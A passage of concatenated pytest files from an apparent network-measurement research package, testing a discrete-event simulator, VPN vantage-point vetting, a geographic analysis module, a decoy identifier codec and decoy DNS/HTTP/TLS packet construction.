        assert seen == [4.0]

    def test_schedule_in_is_relative(self):
        sim = Simulator()
        seen = []
        sim.schedule_at(10.0, lambda: sim.schedule_in(5.0, lambda: seen.append(sim.now())))
        sim.run()
        assert seen == [15.0]

    def test_scheduling_in_the_past_raises(self):
        sim = Simulator()
        sim.schedule_at(10.0, lambda: None)
        sim.run()
        with pytest.raises(ValueError):
            sim.schedule_at(5.0, lambda: None)

    def test_negative_delay_raises(self):
        with pytest.raises(ValueError):
            Simulator().schedule_in(-1.0, lambda: None)

    def test_run_until_leaves_later_events_pending(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(1.0, lambda: fired.append(1))
        sim.schedule_at(10.0, lambda: fired.append(10))
        executed = sim.run(until=5.0)
        assert executed == 1
        assert fired == [1]
        assert sim.pending == 1
        assert sim.now() == 5.0

    def test_run_until_fires_events_exactly_at_boundary(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(5.0, lambda: fired.append(5))
        sim.run(until=5.0)
        assert fired == [5]

    def test_cancelled_events_do_not_fire(self):
        sim = Simulator()
        fired = []
        event = sim.schedule_at(1.0, lambda: fired.append("no"))
        event.cancel()
        sim.run()
        assert fired == []
        assert sim.pending == 0

    def test_max_events_bounds_execution(self):
        sim = Simulator()

        def reschedule():
            sim.schedule_in(1.0, reschedule)

        sim.schedule_at(0.0, reschedule)
        executed = sim.run(max_events=10)
        assert executed == 10

    def test_processed_counter_accumulates(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None)
        sim.schedule_at(2.0, lambda: None)
        sim.run()
        assert sim.processed == 2

    def test_events_scheduled_during_run_are_executed(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(1.0, lambda: sim.schedule_at(2.0, lambda: fired.append("child")))
        sim.run()
        assert fired == ["child"]


class TestLabelCounts:
    def test_labels_tallied_on_execution(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None, label="send:dns")
        sim.schedule_at(2.0, lambda: None, label="send:dns")
        sim.schedule_at(3.0, lambda: None, label="retry")
        sim.run()
        assert sim.label_counts == {"send:dns": 2, "retry": 1}

    def test_unlabelled_events_not_tallied(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None)
        sim.run()
        assert sim.label_counts == {}

    def test_cancelled_events_not_tallied(self):
        sim = Simulator()
        event = sim.schedule_at(1.0, lambda: None, label="x")
        event.cancel()
        sim.run()
        assert sim.label_counts == {}

    def test_experiment_exposes_event_mix(self):
        from repro.core.config import ExperimentConfig
        from repro.core.experiment import Experiment
        result = Experiment(ExperimentConfig.tiny(seed=616)).run()
        counts = result.eco.sim.label_counts
        assert counts.get("send:dns", 0) > 0
        assert any(label.startswith("recursion:") for label in counts)
        assert any(label.startswith("unsolicited:") for label in counts)


class TestRunUntilClockSkip:
    """Regression: run(until=..., max_events=...) must not skip the clock
    to `until` while events before `until` are still queued."""

    def test_max_events_break_leaves_clock_at_last_fired(self):
        sim = Simulator()
        for t in (1.0, 2.0, 3.0):
            sim.schedule_at(t, lambda: None)
        executed = sim.run(until=10.0, max_events=1)
        assert executed == 1
        # The old loop advanced to until=10.0 here, stranding the events
        # at t=2 and t=3 in the simulator's past...
        assert sim.now() == 1.0
        # ...which made the next run() pop events stamped earlier than
        # now() — this continuation used to be impossible.
        assert sim.run() == 2
        assert sim.now() == 3.0

    def test_drained_queue_still_advances_to_until(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None)
        sim.run(until=5.0)
        assert sim.now() == 5.0

    def test_max_events_cap_not_hit_still_advances(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None)
        sim.run(until=5.0, max_events=10)
        assert sim.now() == 5.0

    def test_pending_event_past_until_does_not_block_advance(self):
        sim = Simulator()
        sim.schedule_at(8.0, lambda: None)
        sim.run(until=5.0, max_events=10)
        assert sim.now() == 5.0
        assert sim.pending == 1


class TestCalendarQueue:
    """The bucketed calendar must preserve single-heap (time, sequence)
    order across every bucket boundary."""

    def test_cross_bucket_order(self):
        sim = Simulator(bucket_width=4.0)
        fired = []
        # Schedule out of order, spanning many buckets.
        for t in (33.0, 1.0, 17.5, 4.0, 3.9999, 64.0, 16.0, 0.0):
            sim.schedule_at(t, lambda t=t: fired.append(t))
        sim.run()
        assert fired == sorted(fired)

    def test_bucket_refill_after_drain(self):
        sim = Simulator(bucket_width=4.0)
        fired = []
        # Fire an event in bucket 0, then (from within a later bucket)
        # schedule back into a time whose bucket already drained once.
        sim.schedule_at(1.0, lambda: fired.append("a"))
        sim.schedule_at(9.0, lambda: (fired.append("b"),
                                      sim.schedule_at(9.5, lambda: fired.append("c"))))
        sim.run()
        assert fired == ["a", "b", "c"]

    def test_invalid_bucket_width_rejected(self):
        with pytest.raises(ValueError, match="bucket_width"):
            Simulator(bucket_width=0.0)

    def test_ties_fire_in_scheduling_order_across_push_pattern(self):
        sim = Simulator(bucket_width=2.0)
        fired = []
        for name in "abcd":
            sim.schedule_at(6.0, lambda name=name: fired.append(name))
        sim.run()
        assert fired == ["a", "b", "c", "d"]


class TestDepthGauge:
    """sim.heap.max_depth samples live depth on push, pop, AND cancel —
    the pre-calendar gauge only sampled pushes, so tombstones from
    cancel-heavy churn inflated the high-water mark."""

    def _sim_with_registry(self):
        from repro.telemetry.registry import MetricsRegistry
        registry = MetricsRegistry()
        return Simulator(metrics=registry), registry

    def test_depth_counts_live_events_not_tombstones(self):
        sim, registry = self._sim_with_registry()
        events = [sim.schedule_at(float(t), lambda: None) for t in range(1, 6)]
        for event in events[1:]:
            event.cancel()
        # 5 pushed, 4 cancelled: live depth high-water is 5 (before the
        # cancels), and the gauge never re-inflates afterwards.
        assert registry.gauge("sim.heap.max_depth").value == 5
        sim.schedule_at(10.0, lambda: None)
        # 2 live events now; the recorded max stays 5.
        assert registry.gauge("sim.heap.max_depth").value == 5
        assert sim.pending == 2

    def test_bucket_gauge_tracks_calendar_occupancy(self):
        sim, registry = self._sim_with_registry()
        width = sim._width
        for bucket in range(3):
            sim.schedule_at(bucket * width + 0.5, lambda: None)
        assert registry.gauge("sim.calendar.buckets").value == 3


class TestFeeder:
    """The streaming feeder schedules work on demand, invisibly to every
    digest-relevant observable."""

    def test_feeder_supplies_events_lazily(self):
        sim = Simulator()
        fired = []
        remaining = iter(range(10))

        def feed(target):
            for i in remaining:
                sim.schedule_at(float(i), lambda i=i: fired.append(i))
                if float(i) >= target:
                    return float(i)
            return None

        sim.set_feeder(feed, margin=1.0, lookahead=3.0)
        sim.run()
        assert fired == list(range(10))
        assert not sim.feeding

    def test_feeder_is_not_an_event(self):
        from repro.telemetry.registry import MetricsRegistry
        registry = MetricsRegistry()
        sim = Simulator(metrics=registry)
        pulls = []

        def feed(target):
            pulls.append(target)
            if len(pulls) > 3:
                return None
            sim.schedule_at(float(len(pulls)), lambda: None, label="fed")
            return target

        sim.set_feeder(feed, margin=0.5, lookahead=100.0)
        sim.run()
        # Pulls happened, events fired — but the feeder itself consumed
        # no sequence numbers and left counters/labels untouched beyond
        # the events it scheduled.
        assert len(pulls) > 1
        assert sim.label_counts == {"fed": 3}
        assert registry.counter("sim.events.fired").value == 3
        assert registry.counter("sim.events.scheduled").value == 3

    def test_fed_schedule_matches_upfront_order(self):
        def build(feeding):
            sim = Simulator()
            fired = []
            times = [0.5 * i for i in range(40)]
            if feeding:
                pending = iter(times)

                def feed(target):
                    for t in pending:
                        sim.schedule_at(t, lambda t=t: fired.append(t))
                        if t >= target:
                            return t
                    return None

                sim.set_feeder(feed, margin=2.0, lookahead=5.0)
            else:
                for t in times:
                    sim.schedule_at(t, lambda t=t: fired.append(t))
            sim.run()
            return fired

        assert build(feeding=True) == build(feeding=False)

    def test_feeder_guarantee_shortfall_raises(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None)
        sim.set_feeder(lambda target: target - 5.0, margin=1.0, lookahead=2.0)
        with pytest.raises(RuntimeError, match="short of target"):
            sim.run()

    def test_invalid_feeder_parameters_rejected(self):
        sim = Simulator()
        with pytest.raises(ValueError):
            sim.set_feeder(lambda t: t, margin=-1.0, lookahead=1.0)
        with pytest.raises(ValueError):
            sim.set_feeder(lambda t: t, margin=0.0, lookahead=0.0)

    def test_run_until_does_not_exhaust_feeder_past_horizon(self):
        sim = Simulator()
        fed = []

        def feed(target):
            t = (fed[-1] + 1.0) if fed else 0.0
            while t <= target:
                fed.append(t)
                sim.schedule_at(t, lambda: None)
                t += 1.0
            return fed[-1]

        sim.set_feeder(feed, margin=1.0, lookahead=4.0)
        sim.run(until=10.0)
        # The feeder was only pulled through until + margin, not drained.
        assert sim.feeding
        assert max(fed) <= 15.0

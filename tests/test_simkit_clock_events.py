"""Unit tests for the virtual clock and the event loop."""

import pytest

from repro.simkit import Simulator, VirtualClock


class TestVirtualClock:
    def test_starts_at_zero_by_default(self):
        assert VirtualClock().now() == 0.0

    def test_starts_at_given_time(self):
        assert VirtualClock(5.0).now() == 5.0

    def test_rejects_negative_start(self):
        with pytest.raises(ValueError):
            VirtualClock(-1.0)

    def test_advance_moves_forward(self):
        clock = VirtualClock()
        clock.advance_to(10.0)
        assert clock.now() == 10.0

    def test_advance_to_same_instant_is_allowed(self):
        clock = VirtualClock(3.0)
        clock.advance_to(3.0)
        assert clock.now() == 3.0

    def test_advance_backwards_raises(self):
        clock = VirtualClock(10.0)
        with pytest.raises(ValueError):
            clock.advance_to(5.0)


class TestSimulator:
    def test_events_fire_in_time_order(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(5.0, lambda: fired.append("late"))
        sim.schedule_at(1.0, lambda: fired.append("early"))
        sim.run()
        assert fired == ["early", "late"]

    def test_simultaneous_events_fire_in_scheduling_order(self):
        sim = Simulator()
        fired = []
        for tag in ("a", "b", "c"):
            sim.schedule_at(2.0, lambda tag=tag: fired.append(tag))
        sim.run()
        assert fired == ["a", "b", "c"]

    def test_clock_tracks_event_times(self):
        sim = Simulator()
        seen = []
        sim.schedule_at(4.0, lambda: seen.append(sim.now()))
        sim.run()
        assert seen == [4.0]

    def test_schedule_in_is_relative(self):
        sim = Simulator()
        seen = []
        sim.schedule_at(10.0, lambda: sim.schedule_in(5.0, lambda: seen.append(sim.now())))
        sim.run()
        assert seen == [15.0]

    def test_scheduling_in_the_past_raises(self):
        sim = Simulator()
        sim.schedule_at(10.0, lambda: None)
        sim.run()
        with pytest.raises(ValueError):
            sim.schedule_at(5.0, lambda: None)

    def test_negative_delay_raises(self):
        with pytest.raises(ValueError):
            Simulator().schedule_in(-1.0, lambda: None)

    def test_run_until_leaves_later_events_pending(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(1.0, lambda: fired.append(1))
        sim.schedule_at(10.0, lambda: fired.append(10))
        executed = sim.run(until=5.0)
        assert executed == 1
        assert fired == [1]
        assert sim.pending == 1
        assert sim.now() == 5.0

    def test_run_until_fires_events_exactly_at_boundary(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(5.0, lambda: fired.append(5))
        sim.run(until=5.0)
        assert fired == [5]

    def test_cancelled_events_do_not_fire(self):
        sim = Simulator()
        fired = []
        event = sim.schedule_at(1.0, lambda: fired.append("no"))
        event.cancel()
        sim.run()
        assert fired == []
        assert sim.pending == 0

    def test_max_events_bounds_execution(self):
        sim = Simulator()

        def reschedule():
            sim.schedule_in(1.0, reschedule)

        sim.schedule_at(0.0, reschedule)
        executed = sim.run(max_events=10)
        assert executed == 10

    def test_processed_counter_accumulates(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None)
        sim.schedule_at(2.0, lambda: None)
        sim.run()
        assert sim.processed == 2

    def test_events_scheduled_during_run_are_executed(self):
        sim = Simulator()
        fired = []
        sim.schedule_at(1.0, lambda: sim.schedule_at(2.0, lambda: fired.append("child")))
        sim.run()
        assert fired == ["child"]


class TestLabelCounts:
    def test_labels_tallied_on_execution(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None, label="send:dns")
        sim.schedule_at(2.0, lambda: None, label="send:dns")
        sim.schedule_at(3.0, lambda: None, label="retry")
        sim.run()
        assert sim.label_counts == {"send:dns": 2, "retry": 1}

    def test_unlabelled_events_not_tallied(self):
        sim = Simulator()
        sim.schedule_at(1.0, lambda: None)
        sim.run()
        assert sim.label_counts == {}

    def test_cancelled_events_not_tallied(self):
        sim = Simulator()
        event = sim.schedule_at(1.0, lambda: None, label="x")
        event.cancel()
        sim.run()
        assert sim.label_counts == {}

    def test_experiment_exposes_event_mix(self):
        from repro.core.config import ExperimentConfig
        from repro.core.experiment import Experiment
        result = Experiment(ExperimentConfig.tiny(seed=616)).run()
        counts = result.eco.sim.label_counts
        assert counts.get("send:dns", 0) > 0
        assert any(label.startswith("recursion:") for label in counts)
        assert any(label.startswith("unsolicited:") for label in counts)

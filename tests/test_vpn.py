"""Tests for the VPN platform, scheduler, vetting, and survey."""

import pytest

from repro.datasets.providers import ALL_PROVIDERS, VpnProvider
from repro.datasets.resolvers import PUBLIC_RESOLVERS
from repro.simkit.rng import RandomRouter
from repro.vpn import (
    PLATFORM_SURVEY,
    RoundRobinScheduler,
    VantagePoint,
    VpnPlatform,
    pair_resolver_filter,
    survey_rows,
    vet_providers,
)
from repro.vpn.survey import meets_requirements
from repro.vpn.vetting import full_vetting


def make_platform(seed: int = 7, scale: float = 0.02) -> VpnPlatform:
    return VpnPlatform(RandomRouter(seed), vp_scale=scale)


class TestPlatform:
    def test_builds_vps_in_both_regions(self):
        platform = make_platform()
        assert platform.global_vps()
        assert platform.cn_vps()

    def test_deterministic(self):
        first = make_platform().vantage_points
        second = make_platform().vantage_points
        assert first == second

    def test_addresses_unique(self):
        platform = make_platform(scale=0.05)
        addresses = [vp.address for vp in platform.vantage_points]
        assert len(set(addresses)) == len(addresses)

    def test_cn_vps_have_provinces(self):
        platform = make_platform()
        assert all(vp.province is not None for vp in platform.cn_vps())
        assert all(vp.province is None for vp in platform.global_vps())

    def test_scale_changes_size(self):
        small = make_platform(scale=0.01)
        large = make_platform(scale=0.05)
        assert len(large) > len(small)

    def test_rejects_nonpositive_scale(self):
        with pytest.raises(ValueError):
            make_platform(scale=0)

    def test_summary_rows_are_table1_shaped(self):
        rows = make_platform().summary()
        labels = [row.label for row in rows]
        assert labels == ["Global (excl. CN)", "China (CN mainland)", "Total"]
        total = rows[2]
        assert total.vps == rows[0].vps + rows[1].vps
        assert total.providers == rows[0].providers + rows[1].providers

    def test_summary_counts_provinces_for_cn(self):
        platform = make_platform(scale=0.05)
        cn_row = platform.summary()[1]
        provinces = {vp.province for vp in platform.cn_vps()}
        assert cn_row.countries == len(provinces)

    def test_full_scale_approximates_paper(self):
        platform = make_platform(scale=1.0)
        assert 4000 < len(platform) < 4800

    def test_residential_providers_never_recruited(self):
        residential = VpnProvider("ShadyResi", "global", "https://x", 0.5,
                                  datacenter=False)
        platform = VpnPlatform(
            RandomRouter(1), vp_scale=0.02,
            providers=list(ALL_PROVIDERS) + [residential],
        )
        assert all(vp.provider != "ShadyResi" for vp in platform.vantage_points)

    def test_endpoint_conversion(self):
        vp = make_platform().vantage_points[0]
        endpoint = vp.endpoint()
        assert endpoint.address == vp.address
        assert endpoint.asn == vp.asn
        assert endpoint.country == vp.country

    def test_region_property(self):
        platform = make_platform()
        assert all(vp.region == "cn" for vp in platform.cn_vps())
        assert all(vp.region == "global" for vp in platform.global_vps())


class TestScheduler:
    def make_vps(self, count: int):
        return [
            VantagePoint(f"vp-{index}", f"100.96.1.{index}", 64512, "US", "TestVPN")
            for index in range(count)
        ]

    def test_round_robin_cycles(self):
        scheduler = RoundRobinScheduler(self.make_vps(3))
        ids = [scheduler.next_vp().vp_id for _ in range(6)]
        assert ids == ["vp-0", "vp-1", "vp-2", "vp-0", "vp-1", "vp-2"]

    def test_rounds_iterates_full_rotations(self):
        scheduler = RoundRobinScheduler(self.make_vps(4))
        assert len(list(scheduler.rounds(3))) == 12

    def test_rate_limit_spaces_sends(self):
        scheduler = RoundRobinScheduler(self.make_vps(1), per_target_interval=0.5)
        first = scheduler.earliest_send_time("8.8.8.8", 10.0)
        second = scheduler.earliest_send_time("8.8.8.8", 10.1)
        third = scheduler.earliest_send_time("8.8.8.8", 12.0)
        assert first == 10.0
        assert second == 10.5
        assert third == 12.0

    def test_rate_limit_is_per_target(self):
        scheduler = RoundRobinScheduler(self.make_vps(1), per_target_interval=1.0)
        scheduler.earliest_send_time("8.8.8.8", 10.0)
        assert scheduler.earliest_send_time("9.9.9.9", 10.0) == 10.0

    def test_rejects_empty_vp_list(self):
        with pytest.raises(ValueError):
            RoundRobinScheduler([])


class TestVetting:
    def make_vp(self, vp_id: str, resets_ttl: bool = False) -> VantagePoint:
        return VantagePoint(vp_id, "100.96.2.1", 64512, "US", "TestVPN",
                            resets_ttl=resets_ttl)

    def test_ttl_reset_providers_removed(self):
        vps = [self.make_vp("good"), self.make_vp("bad", resets_ttl=True)]
        report = vet_providers(vps)
        assert [vp.vp_id for vp in report.kept] == ["good"]
        assert [vp.vp_id for vp in report.removed_ttl_reset] == ["bad"]

    def test_pair_filter_removes_intercepted(self):
        vps = [self.make_vp("clean"), self.make_vp("intercepted")]

        def probe(vp, address):
            return vp.vp_id == "intercepted"

        report = pair_resolver_filter(vps, PUBLIC_RESOLVERS, probe)
        assert [vp.vp_id for vp in report.kept] == ["clean"]
        assert [vp.vp_id for vp in report.removed_intercepted] == ["intercepted"]

    def test_pair_filter_probes_pair_addresses_not_resolvers(self):
        probed = []

        def probe(vp, address):
            probed.append(address)
            return False

        pair_resolver_filter([self.make_vp("x")], PUBLIC_RESOLVERS, probe)
        resolver_addresses = {destination.address for destination in PUBLIC_RESOLVERS}
        assert probed
        assert not set(probed) & resolver_addresses

    def test_full_vetting_combines_both(self):
        vps = [
            self.make_vp("clean"),
            self.make_vp("resetter", resets_ttl=True),
            self.make_vp("intercepted"),
        ]
        report = full_vetting(vps, PUBLIC_RESOLVERS,
                              lambda vp, address: vp.vp_id == "intercepted")
        assert [vp.vp_id for vp in report.kept] == ["clean"]
        assert report.removed == 2


class TestSurvey:
    def test_only_this_work_and_similar_meet_requirements(self):
        qualifying = [
            platform.name for platform in PLATFORM_SURVEY
            if meets_requirements(platform)
        ]
        assert "This work" in qualifying
        # Crowdsourcing, ad, proxy and Tor platforms must all fail.
        for rejected in ("Ark", "Google Ads", "BrightData", "Tor", "OONI", "ICLab"):
            assert rejected not in qualifying

    def test_survey_rows_cover_all_platforms(self):
        rows = survey_rows()
        assert len(rows) == len(PLATFORM_SURVEY)
        assert all("meets_requirements" in row for row in rows)

    def test_this_work_vp_count_matches_table1(self):
        this_work = next(p for p in PLATFORM_SURVEY if p.name == "This work")
        assert this_work.vps == 4364
        assert this_work.countries == 82
        assert this_work.ases == 121

"""Tests for the geographic landscape views."""

import pytest

from repro.analysis.geography import (
    HeatCell,
    country_destination_matrix,
    heat_glyph,
    region_of,
    regional_ratios,
    render_heat_matrix,
)
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment


class TestRegions:
    def test_known_countries(self):
        assert region_of("CN") == "East Asia"
        assert region_of("US") == "North America"
        assert region_of("DE") == "Europe"
        assert region_of("AD") == "Europe"

    def test_unknown_country_is_other(self):
        assert region_of("ZZ") == "Other"


class TestHeatGlyph:
    def test_extremes(self):
        assert heat_glyph(0.0) == " "
        assert heat_glyph(1.0) == "@"

    def test_monotonic(self):
        glyphs = " .:-=+*#%@"
        rendered = [heat_glyph(ratio / 10) for ratio in range(10)]
        assert rendered == list(glyphs)

    def test_validation(self):
        with pytest.raises(ValueError):
            heat_glyph(1.5)


class TestRegionalRatios:
    def test_weighted_by_paths(self):
        cells = [
            HeatCell("CN", "Yandex", ratio=1.0, paths=3),
            HeatCell("JP", "Yandex", ratio=0.0, paths=1),
        ]
        ratios = regional_ratios(cells)
        assert ratios["East Asia"] == pytest.approx(0.75)

    def test_empty(self):
        assert regional_ratios([]) == {}


class TestMatrixOnRun:
    @pytest.fixture(scope="class")
    def result(self):
        return Experiment(ExperimentConfig.tiny(seed=20240301)).run()

    def test_matrix_cells_well_formed(self, result):
        cells = country_destination_matrix(result.ledger, result.phase1.events)
        assert cells
        for cell in cells:
            assert 0.0 <= cell.ratio <= 1.0
            assert cell.paths >= 1

    def test_render_contains_countries_and_scale(self, result):
        cells = country_destination_matrix(result.ledger, result.phase1.events)
        text = render_heat_matrix(cells)
        assert "scale:" in text
        assert "CN" in text

    def test_render_with_explicit_destinations(self, result):
        cells = country_destination_matrix(result.ledger, result.phase1.events)
        text = render_heat_matrix(cells, destinations=["Yandex", "Google"])
        header = text.splitlines()[0]
        assert "Yandex" in header and "Google" in header

    def test_east_asia_elevated_for_114dns(self, result):
        cells = country_destination_matrix(result.ledger, result.phase1.events)
        cn_cells = [cell for cell in cells
                    if cell.vp_country == "CN" and cell.destination_name == "114DNS"]
        other_cells = [cell for cell in cells
                       if cell.vp_country != "CN" and cell.destination_name == "114DNS"]
        if cn_cells and other_cells:
            cn_ratio = sum(cell.ratio * cell.paths for cell in cn_cells) / \
                sum(cell.paths for cell in cn_cells)
            other_ratio = sum(cell.ratio * cell.paths for cell in other_cells) / \
                sum(cell.paths for cell in other_cells)
            assert cn_ratio > other_ratio

"""Tests for the identifier codec and decoy factory."""

import random

import pytest

from repro.core.decoy import Decoy, DecoyFactory
from repro.core.identifier import (
    DecoyIdentity,
    IdentifierCodec,
    IdentifierError,
    crc16_ccitt,
)
from repro.net.packet import PROTO_TCP, PROTO_UDP, Packet
from repro.observers.onpath import extract_domain
from repro.protocols.dns import DnsMessage
from repro.protocols.dns.names import MAX_LABEL_LENGTH

ZONE = "www.experiment.domain"


def make_identity(**overrides) -> DecoyIdentity:
    defaults = dict(sent_at=123456, vp_address="100.96.0.7",
                    dst_address="8.8.8.8", ttl=64, sequence=42)
    defaults.update(overrides)
    return DecoyIdentity(**defaults)


class TestCrc16:
    def test_known_value(self):
        # CRC-16/CCITT-FALSE of "123456789" is 0x29B1.
        assert crc16_ccitt(b"123456789") == 0x29B1

    def test_empty(self):
        assert crc16_ccitt(b"") == 0xFFFF


class TestIdentifierCodec:
    def setup_method(self):
        self.codec = IdentifierCodec()

    def test_roundtrip(self):
        identity = make_identity()
        assert self.codec.decode(self.codec.encode(identity)) == identity

    def test_roundtrip_extremes(self):
        for identity in (
            make_identity(sent_at=0, ttl=1, sequence=0),
            make_identity(sent_at=0xFFFFFFFF, ttl=255, sequence=9999),
            make_identity(vp_address="0.0.0.0", dst_address="255.255.255.255"),
        ):
            assert self.codec.decode(self.codec.encode(identity)) == identity

    def test_label_fits_dns_limit(self):
        label = self.codec.encode(make_identity(sequence=9999))
        assert len(label) <= MAX_LABEL_LENGTH

    def test_label_is_valid_dns_label_charset(self):
        label = self.codec.encode(make_identity())
        assert all(char.isalnum() or char == "-" for char in label)

    def test_different_ttls_yield_different_labels(self):
        labels = {self.codec.encode(make_identity(ttl=ttl)) for ttl in range(1, 65)}
        assert len(labels) == 64

    def test_corruption_detected(self):
        label = self.codec.encode(make_identity())
        flipped = ("a" if label[0] != "a" else "b") + label[1:]
        with pytest.raises(IdentifierError):
            self.codec.decode(flipped)

    def test_rejects_missing_sequence(self):
        with pytest.raises(IdentifierError):
            self.codec.decode("abcdef")

    def test_rejects_non_base32(self):
        with pytest.raises(IdentifierError):
            self.codec.decode("!!invalid!!-0001")

    def test_rejects_wrong_length(self):
        with pytest.raises(IdentifierError):
            self.codec.decode("ge-0001")

    def test_decode_domain(self):
        identity = make_identity()
        domain = f"{self.codec.encode(identity)}.{ZONE}"
        assert self.codec.decode_domain(domain, ZONE) == identity

    def test_decode_domain_with_trailing_dot_and_case(self):
        identity = make_identity()
        domain = f"{self.codec.encode(identity)}.{ZONE}".upper() + "."
        assert self.codec.decode_domain(domain, ZONE) == identity

    def test_decode_domain_outside_zone_rejected(self):
        with pytest.raises(IdentifierError):
            self.codec.decode_domain("foo.example.com", ZONE)

    def test_identity_validation(self):
        with pytest.raises(IdentifierError):
            make_identity(ttl=256)
        with pytest.raises(IdentifierError):
            make_identity(sequence=10000)
        with pytest.raises(IdentifierError):
            make_identity(sent_at=-1)

    def test_rejects_non_canonical_sequence_suffixes(self):
        # encode() always emits exactly four digits; shorter or longer
        # digit runs must NOT decode, or "…-1", "…-01", and "…-00001"
        # would all alias onto the identity of "…-0001" and misattribute
        # foreign traffic to a decoy (regression).
        token = self.codec.encode(make_identity(sequence=1)).rsplit("-", 1)[0]
        for suffix in ("1", "01", "001", "00001", "000001"):
            with pytest.raises(IdentifierError):
                self.codec.decode(f"{token}-{suffix}")
        assert self.codec.decode(f"{token}-0001").sequence == 1

    def test_canonical_four_digit_sequences_still_decode(self):
        for sequence in (0, 1, 42, 9999):
            identity = make_identity(sequence=sequence)
            assert self.codec.decode(self.codec.encode(identity)) == identity

    def test_decode_domain_with_prepended_third_party_label(self):
        # Probing third parties prepend their own labels before replaying
        # a name; the identifier is then no longer leftmost, but it must
        # still be found and decoded (regression).
        identity = make_identity()
        label = self.codec.encode(identity)
        for mangled in (
            f"probe.{label}.{ZONE}",
            f"a.b.{label}.{ZONE}",
            f"{label}.extra.{ZONE}",
        ):
            assert self.codec.decode_domain(mangled, ZONE) == identity

    def test_decode_domain_all_foreign_labels_rejected(self):
        with pytest.raises(IdentifierError):
            self.codec.decode_domain(f"scan.probe.{ZONE}", ZONE)


class TestDecoyFactory:
    def setup_method(self):
        self.factory = DecoyFactory(ZONE, random.Random(1))

    def test_dns_decoy_structure(self):
        decoy = self.factory.build(make_identity(), "dns")
        assert decoy.packet.ip.protocol == PROTO_UDP
        assert decoy.packet.transport.dst_port == 53
        message = DnsMessage.decode(decoy.packet.payload)
        assert message.qname == decoy.domain

    def test_http_decoy_structure(self):
        decoy = self.factory.build(make_identity(), "http")
        assert decoy.packet.ip.protocol == PROTO_TCP
        assert decoy.packet.transport.dst_port == 80
        assert extract_domain(decoy.packet) == ("http", decoy.domain)

    def test_tls_decoy_structure(self):
        decoy = self.factory.build(make_identity(), "tls")
        assert decoy.packet.transport.dst_port == 443
        assert extract_domain(decoy.packet) == ("tls", decoy.domain)

    def test_packet_carries_identity_ttl_and_addresses(self):
        identity = make_identity(ttl=7)
        decoy = self.factory.build(identity, "dns")
        assert decoy.packet.ip.ttl == 7
        assert decoy.packet.ip.src == identity.vp_address
        assert decoy.packet.ip.dst == identity.dst_address

    def test_domain_decodes_back(self):
        identity = make_identity()
        decoy = self.factory.build(identity, "dns")
        assert self.factory.codec.decode_domain(decoy.domain, ZONE) == identity

    def test_unknown_protocol_rejected(self):
        with pytest.raises(ValueError):
            self.factory.build(make_identity(), "ftp")

    def test_wire_bytes_roundtrip(self):
        decoy = self.factory.build(make_identity(), "dns")
        assert Packet.decode(decoy.packet.encode()) == decoy.packet

    def test_decoy_dataclass_validates_protocol(self):
        decoy = self.factory.build(make_identity(), "dns")
        with pytest.raises(ValueError):
            Decoy(identity=decoy.identity, protocol="ftp",
                  domain=decoy.domain, packet=decoy.packet)

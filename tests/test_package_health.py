"""Package-level health checks: imports, exports, and empty-input edges."""

import importlib
import pathlib
import pkgutil

import pytest

import repro

SRC_ROOT = pathlib.Path(repro.__file__).parent


def all_module_names():
    names = []
    for module in pkgutil.walk_packages([str(SRC_ROOT)], prefix="repro."):
        if module.name.endswith("__main__"):
            continue  # importing it would execute the CLI
        names.append(module.name)
    return names


class TestImports:
    @pytest.mark.parametrize("name", all_module_names())
    def test_every_module_imports(self, name):
        importlib.import_module(name)

    def test_top_level_all_resolves(self):
        for symbol in repro.__all__:
            assert getattr(repro, symbol, None) is not None or symbol == "__version__"

    def test_analysis_all_resolves(self):
        import repro.analysis as analysis
        for symbol in analysis.__all__:
            assert hasattr(analysis, symbol), symbol

    def test_version_string(self):
        assert repro.__version__.count(".") == 2


class TestEmptyInputEdges:
    def test_observer_location_table_empty(self):
        from repro.analysis.landscape import observer_location_table
        assert observer_location_table([]) == {}

    def test_top_observer_ases_empty(self):
        from repro.analysis.origins import top_observer_ases
        assert top_observer_ases([]) == []

    def test_origin_distribution_empty(self):
        from repro.analysis.origins import origin_as_distribution
        from repro.intel.directory import IpDirectory
        assert origin_as_distribution([], IpDirectory()) == []

    def test_decoy_breakdown_empty(self):
        from repro.analysis.combos import decoy_breakdown
        from repro.core.correlate import DecoyLedger
        assert decoy_breakdown(DecoyLedger(), []) == []

    def test_dns_cdfs_empty(self):
        from repro.analysis.temporal import dns_delay_cdfs
        cdfs = dns_delay_cdfs([])
        assert all(len(cdf) == 0 for cdf in cdfs.values())

    def test_multi_use_empty(self):
        from repro.analysis.temporal import multi_use_stats
        stats = multi_use_stats([])
        assert stats.decoys_with_late_requests == 0
        assert stats.share_more_than_3 == 0.0

    def test_problematic_ratios_empty(self):
        from repro.analysis.landscape import problematic_path_ratios
        from repro.core.correlate import DecoyLedger
        assert problematic_path_ratios(DecoyLedger(), []) == []

    def test_observer_groups_empty(self):
        from repro.analysis.origins import observer_as_groups
        from repro.intel.directory import IpDirectory
        assert observer_as_groups([], [], IpDirectory()) == []

    def test_port_audit_empty(self):
        from repro.analysis.ports import observer_port_audit
        from repro.simkit.rng import RandomRouter
        from repro.topology.model import TopologyModel
        audit = observer_port_audit([], TopologyModel(RandomRouter(1)))
        assert audit["observers_scanned"] == 0

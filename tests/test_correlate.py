"""Tests for the unsolicited-request classifier (Section 3 rules)."""

import pytest

from repro.core.correlate import Correlator, DecoyLedger, DecoyRecord
from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.honeypot.logstore import LoggedRequest, LogStore

ZONE = "www.experiment.domain"
CODEC = IdentifierCodec()


def make_record(protocol="dns", sequence=1, phase=1) -> DecoyRecord:
    identity = DecoyIdentity(sent_at=100, vp_address="100.96.0.1",
                             dst_address="8.8.8.8", ttl=64, sequence=sequence)
